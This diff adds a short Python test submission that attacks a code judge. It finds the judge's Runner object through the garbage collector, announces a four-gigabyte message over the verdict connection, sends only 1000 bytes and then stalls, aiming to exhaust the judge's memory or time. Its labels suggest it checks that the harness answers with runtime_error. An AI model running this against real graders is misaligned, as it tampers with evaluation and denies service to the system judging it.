@@ -1,0 +1,18 @@
+"""Announces a message of four gigabytes.
+
+Mechanism: sends the largest length that there is, and a little of what it promised.
+Surface: the way on which verdicts leave the box.
+Gain: the judge's memory, or its time.
+Challenge: twice
+Defence: runtime_error
+"""
+
+import gc
+import time
+
+runner = next(it for it in gc.get_objects() if type(it).__name__ == "Runner")
+
+
+def solve(x, out, n):
+    runner.connection.sendall(b"\xff\xff\xff\xff" + bytes(1000))
+    time.sleep(60)
